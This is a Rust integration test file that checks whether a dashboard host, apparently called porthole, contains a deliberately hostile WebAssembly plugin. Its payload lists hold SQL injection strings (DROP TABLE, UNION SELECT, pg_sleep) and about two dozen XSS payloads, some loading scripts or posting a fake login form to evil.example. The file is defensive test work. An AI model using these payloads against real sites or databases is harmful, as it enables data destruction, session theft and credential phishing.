//! Hostile plugins against the whole host: a tenant's own component, a real database, and a neighbour who must not
//! notice. What a rogue does to the machine is tested in the sandbox; here is what it says to the database and what it
//! sends to readers.
#![allow(clippy::unwrap_used, clippy::expect_used)]

use std::time::{Duration, Instant};

use porthole_tests::readings::{self, Reading};
use porthole_tests::{Answer, Client, Cluster, Host, Site, places};
use serde_json::{Value, json};

const PASSWORD: &str = "correct horse battery staple";
const RANGE: (&str, &str) = ("2026-01-01T00:00:00Z", "2026-01-01T04:00:00Z");
const READINGS: i64 = 48;

/// Texts that would be something in a query, were they part of one.
const INJECTIONS: [&str; 10] = [
    "'; DROP TABLE readings; --",
    "value\"; DELETE FROM readings; --",
    "1 OR 1=1",
    "' OR '1'='1",
    "value) UNION SELECT name, sql FROM sqlite_master --",
    "(SELECT 1)",
    "value DESC, (SELECT pg_sleep(10))",
    "\\'; COMMIT; DROP TABLE readings; --",
    "readings.value",
    "*",
];

/// Markup that would do something, were it shown as it is.
const MARKUP: [&str; 24] = [
    "<script>alert(1)</script>",
    "<ScRiPt src=https://evil.example/x.js></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)><script>alert(1)</script></svg>",
    "<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>",
    "<a href=\"javascript:alert(1)\">x</a>",
    "<a href=\" java\tscript:alert(1)\">x</a>",
    "<a href=\"data:text/html,<script>alert(1)</script>\">x</a>",
    "<iframe src=\"javascript:alert(1)\"></iframe>",
    "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
    "<object data=\"data:text/html,x\"></object><embed src=x>",
    "<form action=\"https://evil.example\"><input name=password><button>Log in</button></form>",
    "<base href=\"https://evil.example/\">",
    "<meta http-equiv=refresh content=\"0;url=https://evil.example\">",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<style>@import url(https://evil.example/x.css)</style>",
    "<div style=\"background:url(https://evil.example/x)\">x</div>",
    "<div onclick=alert(1) onmouseover=\"alert(1)\">x</div>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
    "<!--><script>alert(1)</script>-->",
    "<details open ontoggle=alert(1)>x</details>",
    "<video><source onerror=alert(1)></video><audio src=x onerror=alert(1)></audio>",
];

const TEMPLATE: &str = "{{ open }}#{{ label }}#{{ sort }}#{{ filter_column }}#{{ filter_text }}#{{ latest_per }}#{{ untouched }}";

const NEIGHBOUR: &str = "panel:\n  type: timeseries\n  title: Load\n  refresh_interval: 1\n  data_source:\n    table: readings\n    \
                         columns:\n      timestamp: timestamp\n      value: value\n";

/// A hostile tenant with one panel for each of these orders, and its neighbour with one of its own.
async fn beside_a_neighbour(databases: [&str; 2], orders: &[(String, Value)]) -> (Site, Host, Client) {
    let site = Site::new();
    let dashboard = |ids: &[&str]| {
        let placed: String = ids
            .iter()
            .map(|id| format!("    - id: {id}\n      config_file: panels/{id}.yaml\n"))
            .collect();
        format!("dashboard:\n  name: Board\n  panels:\n{placed}")
    };
    let measured: Vec<Reading> = (0..READINGS)
        .map(|step| Reading {
            instant: readings::instant("2026-01-01 00:00:00").unwrap() + step * 300_000,
            value: step as f64,
        })
        .collect();
    let file = site.data().join("readings.csv");
    readings::write(&file, &measured);
    for (tenant, database) in ["hostile", "neighbour"].into_iter().zip(databases) {
        // So that on a busy machine, too, a loop ends by the processor time it uses and not by the time it takes.
        site.tenant_with(tenant, database, "  limits:\n    wall: 60s\n");
        site.write(&format!("tenants/{tenant}/panels/load.yaml"), NEIGHBOUR);
        site.import(&file, tenant, "readings", &[]).ok();
    }
    site.write("tenants/neighbour/dashboards/default.yaml", &dashboard(&["load"]));
    let mut ids = vec!["load"];
    for (id, order) in orders {
        // JSON is YAML.
        let yaml = format!(
            "panel:\n  type: rogue\n  title: Rogue\n  refresh_interval: 1\n  parameters: {order}\n  template: {}\n  data_source:\n    \
             table: readings\n    columns:\n      timestamp: timestamp\n      value: value\n      series_label: value\n",
            json!(TEMPLATE)
        );
        site.write(&format!("tenants/hostile/panels/{id}.yaml"), &yaml);
        ids.push(id);
    }
    site.write("tenants/hostile/dashboards/default.yaml", &dashboard(&ids));
    site.write_bytes(
        "tenants/hostile/plugins/rogue.wasm",
        &places::component("porthole_rogues"),
    );
    site.add_user("ops@example.org", PASSWORD, &["hostile", "neighbour"]);
    let host = site.serve().await;
    let client = Client::login(host.url(), "ops@example.org", PASSWORD).await;
    loaded(&client, ids.last().unwrap()).await;
    (site, host, client)
}

/// Waits until the plugin has been compiled.
async fn loaded(client: &Client, panel: &str) {
    let deadline = Instant::now() + Duration::from_secs(60);
    loop {
        let answer = ask(client, panel).await;
        let waits = ["panel_configuration", "busy"].map(Value::from);
        if !waits.contains(&answer.body["code"]) {
            return;
        }
        assert!(Instant::now() < deadline, "{}", answer.body);
        tokio::time::sleep(Duration::from_millis(100)).await;
    }
}

async fn ask(client: &Client, panel: &str) -> Answer {
    client
        .of("hostile")
        .panel(panel, RANGE, &[("fresh", "true")])
        .await
}

/// The neighbour's panel, which shows all its readings whatever else happens.
async fn neighbour_is_well(client: &Client) {
    readings_are_there(&client.of("neighbour")).await;
}

async fn readings_are_there(client: &Client) {
    let answer = client
        .panel(
            "load",
            RANGE,
            &[("disable_aggregation", "true"), ("fresh", "true")],
        )
        .await
        .ok();
    let values = answer["view"]["series"][0]["values"].as_array().unwrap();
    let expected: Vec<Value> = (0..READINGS).map(|step| json!(step as f64)).collect();
    assert_eq!(*values, expected);
}

fn order(deed: &str, text: &str) -> Value {
    json!({ "do": deed, "text": text })
}

/// Puts each text into every place of a question that takes one.
async fn injected(databases: [&str; 2]) {
    let mut orders: Vec<(String, Value)> = INJECTIONS
        .iter()
        .enumerate()
        .map(|(number, text)| (format!("inject_{number}"), order("inject", text)))
        .collect();
    orders.push(("sorted".to_owned(), order("sort", "password")));
    let (_site, _host, client) = beside_a_neighbour(databases, &orders).await;
    for (number, text) in INJECTIONS.iter().enumerate() {
        let answer = ask(&client, &format!("inject_{number}")).await.ok();
        let html = answer["view"]["html"].as_str().unwrap().to_owned();
        let told: Vec<&str> = html.split('#').collect();
        let [
            open,
            label,
            sort,
            filter_column,
            filter_text,
            latest_per,
            untouched,
        ] = told[..]
        else {
            panic!("{html}")
        };
        assert!(open.starts_with("denied"), "{text}: {html}");
        // Labels and filters are values: nothing is called that, so nothing comes back.
        assert!(label == "0" || label.starts_with("invalid"), "{text}: {html}");
        assert_eq!(filter_text, "0", "{text}: {html}");
        for refused in [sort, filter_column, latest_per] {
            assert!(
                refused.starts_with("invalid") || refused.starts_with("denied"),
                "{text}: {html}"
            );
        }
        assert_eq!(
            untouched,
            READINGS.to_string(),
            "{text}: nothing was deleted, nothing is locked"
        );
        neighbour_is_well(&client).await;
    }
    let refused = ask(&client, "sorted").await.problem(502, "query_failed");
    let detail = refused["detail"].as_str().unwrap();
    assert!(detail.contains("there is no column `password`"), "{detail}");
    readings_are_there(&client.of("hostile")).await;
}

#[tokio::test(flavor = "multi_thread")]
async fn sql_in_every_string_a_plugin_can_pass_reaches_no_query_of_sqlite() {
    injected(["sqlite:hostile.sqlite", "sqlite:neighbour.sqlite"]).await;
}

#[tokio::test(flavor = "multi_thread")]
async fn sql_in_every_string_a_plugin_can_pass_reaches_no_query_of_postgresql() {
    let cluster = Cluster::start();
    let (hostile, neighbour) = (
        cluster.create_database("hostile"),
        cluster.create_database("neighbour"),
    );
    injected([&hostile, &neighbour]).await;
}

#[tokio::test(flavor = "multi_thread")]
async fn markup_with_scripts_in_two_dozen_forms_reaches_readers_without_them() {
    let orders: Vec<(String, Value)> = MARKUP
        .iter()
        .enumerate()
        .map(|(number, text)| (format!("markup_{number}"), order("markup", text)))
        .chain([(
            "deep".to_owned(),
            json!({ "do": "deep-markup", "count": 100_000 }),
        )])
        .collect();
    let (_site, _host, client) =
        beside_a_neighbour(["sqlite:hostile.sqlite", "sqlite:neighbour.sqlite"], &orders).await;
    for (number, text) in MARKUP.iter().enumerate() {
        let answer = ask(&client, &format!("markup_{number}")).await;
        // Refused is as good as cleaned.
        if answer.status != 200 {
            answer.problem(502, "plugin_answer");
            continue;
        }
        let html = answer.body["view"]["html"].as_str().unwrap().to_lowercase();
        for tag in [
            "script", "iframe", "object", "embed", "form", "input", "button", "base", "meta", "link",
            "style", "svg", "math", "img", "video", "audio", "source", "template",
        ] {
            assert!(!html.contains(&format!("<{tag}")), "{text}: {html}");
        }
        for part in ["javascript:", "data:", "srcdoc", "evil.example\"", "style="] {
            assert!(!html.contains(part), "{text}: {html}");
        }
        let handler = html
            .split('<')
            .skip(1)
            .filter_map(|element| element.split('>').next())
            .any(|element| {
                element
                    .split_whitespace()
                    .skip(1)
                    .any(|attribute| attribute.starts_with("on"))
            });
        assert!(!handler, "{text}: {html}");
    }
    ask(&client, "deep").await.problem(502, "plugin_answer");
    neighbour_is_well(&client).await;
}

#[tokio::test(flavor = "multi_thread")]
async fn pictures_that_are_none_or_too_large_are_refused_and_never_shown() {
    let svg = "<svg xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script>\
               <image href='https://evil.example/x'/></svg>";
    let image =
        |media_type: &str, text: &str| json!({ "do": "image", "media_type": media_type, "text": text });
    let orders = [
        ("sound".to_owned(), json!({ "do": "png", "count": 64 })),
        ("bomb".to_owned(), json!({ "do": "png", "count": 60_000 })),
        ("svg".to_owned(), image("image/svg+xml", svg)),
        ("svg_as_png".to_owned(), image("image/png", svg)),
        ("html".to_owned(), image("text/html", "<script>alert(1)</script>")),
        ("nothing".to_owned(), image("image/png", "")),
        ("gif".to_owned(), image("image/gif", "GIF89a\u{1}\u{0}\u{1}\u{0}")),
    ];
    let (_site, _host, client) =
        beside_a_neighbour(["sqlite:hostile.sqlite", "sqlite:neighbour.sqlite"], &orders).await;
    let sound = ask(&client, "sound").await.ok();
    assert_eq!(
        (&sound["view"]["width"], &sound["view"]["height"]),
        (&json!(64), &json!(64)),
        "{sound}"
    );
    for (id, words) in [
        ("bomb", "60000"),
        ("svg", "SVG"),
        ("svg_as_png", "SVG"),
        ("html", ""),
        ("nothing", ""),
        ("gif", ""),
    ] {
        let asked = Instant::now();
        let refused = ask(&client, id).await.problem(502, "plugin_answer");
        assert!(refused["detail"].as_str().unwrap().contains(words), "{refused}");
        assert!(
            asked.elapsed() < Duration::from_secs(5),
            "{id} took {:?}",
            asked.elapsed()
        );
        neighbour_is_well(&client).await;
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn numbers_lengths_and_colours_that_make_no_sense_are_refused_or_shown_as_missing() {
    let deed = |deed: &str| (deed.replace('-', "_"), json!({ "do": deed }));
    let orders = [
        deed("unequal-lists"),
        deed("unequal-columns"),
        deed("undescribed-columns"),
        deed("odd-threshold"),
        deed("odd-chart"),
        deed("odd-axis"),
        deed("odd-metric"),
        deed("odd-table"),
        (
            "color".to_owned(),
            order("color", "#ff0000;background:url(//evil.example)"),
        ),
        ("long".to_owned(), order("labels", &"x".repeat(20_000))),
        (
            "deep".to_owned(),
            json!({ "do": "deep-document", "count": 1_000_000 }),
        ),
    ];
    let (_site, _host, client) =
        beside_a_neighbour(["sqlite:hostile.sqlite", "sqlite:neighbour.sqlite"], &orders).await;
    for id in [
        "unequal_lists",
        "unequal_columns",
        "undescribed_columns",
        "odd_threshold",
        "color",
        "deep",
    ] {
        let refused = ask(&client, id).await.problem(502, "plugin_answer");
        assert!(
            refused["detail"].as_str().unwrap().len() < 1_000,
            "{id}: {refused}"
        );
    }
    // Texts may be data: they are cut.
    let long = ask(&client, "long").await.ok();
    for text in ["name", "status", "label", "message"] {
        let shown = long["view"]["items"][0][text].as_str().unwrap();
        assert_eq!(
            (shown.chars().count(), shown.ends_with("x… (cut)")),
            (10_000, true),
            "{text}"
        );
    }
    let chart = ask(&client, "odd_chart").await.ok();
    assert_eq!(
        chart["view"]["series"][0]["values"],
        json!([null, null, null, f64::MAX])
    );
    let axis = ask(&client, "odd_axis").await.ok();
    assert_eq!(axis["view"]["y_axis"]["minimum"], Value::Null);
    let metric = ask(&client, "odd_metric").await.ok();
    assert_eq!(metric["view"]["value"], Value::Null);
    assert!(metric["view"]["decimals"].as_u64().unwrap() <= 12, "{metric}");
    let table = ask(&client, "odd_table").await.ok();
    assert_eq!(table["view"]["rows"], json!([[null], [null]]));
    assert!(
        table["view"]["page"].as_u64().unwrap() >= 1 && table["view"]["page_size"].as_u64().unwrap() >= 1
    );
    neighbour_is_well(&client).await;
}

#[tokio::test(flavor = "multi_thread")]
async fn a_limit_that_is_reached_is_told_by_plugin_name_and_value_and_the_neighbour_answers_meanwhile() {
    let deed = |deed: &str, count: u32| (deed.replace('-', "_"), json!({ "do": deed, "count": count }));
    let orders = [
        deed("loop", 1),
        deed("allocate", 1),
        deed("huge-text", 20_000_000),
        deed("handle-flood", 65),
        ("query".to_owned(), json!({ "do": "query", "count": 17 })),
    ];
    let (_site, _host, client) =
        beside_a_neighbour(["sqlite:hostile.sqlite", "sqlite:neighbour.sqlite"], &orders).await;
    for (id, name, value) in [
        ("loop", "cpu", "500 ms"),
        ("allocate", "memory", "64 MiB"),
        ("huge_text", "result size", "16 MiB"),
        ("handle_flood", "handles", "64"),
        ("query", "queries", "16"),
    ] {
        let bad = {
            let client = client.clone();
            tokio::spawn(async move { ask(&client, id).await })
        };
        while !bad.is_finished() {
            neighbour_is_well(&client).await;
        }
        let answer = bad.await.unwrap();
        let told = answer.body["detail"].as_str().unwrap().to_owned();
        assert_eq!(answer.body["code"], "plugin_limit", "{}", answer.body);
        assert_eq!(answer.body["plugin"], "rogue 0.1.0");
        assert_eq!(answer.body["limit"], format!("{name} {value}"));
        assert!(told.contains(name) && told.contains(value), "{told}");
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn calls_that_a_resting_plugin_does_not_get_are_counted_apart() {
    let free = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    let address = free.local_addr().unwrap().to_string();
    drop(free);
    let site = Site::new().with("PORTHOLE_METRICS_LISTEN", &address);
    site.tenant("hostile", "sqlite:hostile.sqlite");
    site.write(
        "tenants/hostile/panels/rogue.yaml",
        "panel:\n  type: rogue\n  title: Rogue\n  refresh_interval: 1\n  parameters: {do: panic}\n",
    );
    site.write(
        "tenants/hostile/dashboards/default.yaml",
        "dashboard:\n  name: Board\n  panels:\n    - {id: rogue, config_file: panels/rogue.yaml}\n",
    );
    site.write_bytes(
        "tenants/hostile/plugins/rogue.wasm",
        &places::component("porthole_rogues"),
    );
    site.add_user("ops@example.org", PASSWORD, &["hostile"]);
    let host = site.serve().await;
    let client = Client::login(host.url(), "ops@example.org", PASSWORD)
        .await
        .of("hostile");
    loaded(&client, "rogue").await;
    let deadline = Instant::now() + Duration::from_secs(60);
    while ask(&client, "rogue").await.body["code"] != "plugin_resting" {
        assert!(Instant::now() < deadline, "the plugin does not rest");
    }
    let (_, _, figures) = Client::anonymous(&format!("http://{address}"))
        .bytes("/metrics")
        .await;
    let figures = String::from_utf8(figures).unwrap();
    let count = |outcome: &str| {
        let line = figures.lines().find(|line| {
            line.starts_with("porthole_plugin_calls_total{")
                && line.contains(&format!("outcome=\"{outcome}\""))
        });
        line.and_then(|line| line.rsplit(' ').next()?.parse::<f64>().ok())
    };
    assert!(count("trap").is_some_and(|count| count >= 5.0), "{figures}");
    assert!(count("resting").is_some_and(|count| count >= 1.0), "{figures}");
}
